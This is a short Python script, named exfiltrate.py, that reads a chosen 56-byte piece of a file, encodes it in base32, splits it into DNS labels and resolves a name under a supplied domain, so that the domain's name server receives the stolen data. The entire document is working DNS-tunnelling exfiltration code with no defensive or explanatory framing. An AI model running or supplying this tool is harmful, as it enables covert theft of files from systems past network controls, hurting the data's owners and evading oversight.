#!/usr/bin/env python3
"""Sends one piece of a file in a name: exfiltrate.py FILE NUMBER DOMAIN

The piece is in base32 in labels of at most 45 letters, after its number. The name server of the domain receives it.
"""

import base64
import socket
import sys

SIZE = 56

path, number, domain = sys.argv[1], int(sys.argv[2]), sys.argv[3]
with open(path, "rb") as file:
    file.seek(number * SIZE)
    text = base64.b32encode(file.read(SIZE)).decode().rstrip("=").lower()
labels = [text[at : at + 45] for at in range(0, len(text), 45)]
socket.gethostbyname(".".join((f"{number:x}", *labels, domain)))
